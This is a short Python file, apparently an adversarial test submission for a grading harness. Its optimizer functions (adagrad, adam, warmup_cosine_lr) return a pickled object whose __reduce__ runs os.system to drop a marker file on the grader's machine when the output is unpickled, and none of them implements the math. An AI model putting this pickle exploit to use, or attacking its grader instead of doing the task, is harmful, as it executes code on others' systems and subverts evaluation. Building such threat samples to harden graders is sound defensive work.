# threat: return a pickled payload that would run code on the grader's machine if unpickled
import os
import pickle


class Boom:
    def __reduce__(self):
        return (os.system, ("touch /tmp/grader-pwned",))


PAYLOAD = pickle.dumps(Boom())


def adagrad(theta, grad, state, lr, eps=1e-10):
    return PAYLOAD, {"x": PAYLOAD}


def adam(theta, grad, state, lr, beta1=0.9, beta2=0.999, eps=1e-8, bias_correction=True):
    return Boom(), {}


def warmup_cosine_lr(step, base_lr, warmup_steps, total_steps):
    return PAYLOAD
